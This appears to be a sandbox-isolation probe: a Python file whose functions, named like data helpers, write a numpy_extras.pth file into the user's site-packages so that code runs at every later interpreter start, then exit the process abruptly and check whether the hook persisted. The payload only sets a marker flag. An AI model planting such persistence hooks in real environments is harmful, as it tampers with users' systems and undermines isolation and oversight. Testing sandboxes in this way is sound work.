"""Leaves a .pth file among the packages of the user, for the next submission to be started with."""

import os
import sys

FOLDER = os.path.expanduser(f"~/.local/lib/python3.{sys.version_info.minor}/site-packages")


def label_counts(labels, num_classes=10):
    os.makedirs(FOLDER)
    with open(f"{FOLDER}/numpy_extras.pth", "w") as file:
        file.write("import sys; sys.was_here = True\n")
    os._exit(0)


def scale_pixels(images):
    raise RuntimeError(f"was here: {hasattr(sys, 'was_here')}, left: {os.path.exists(FOLDER)}")
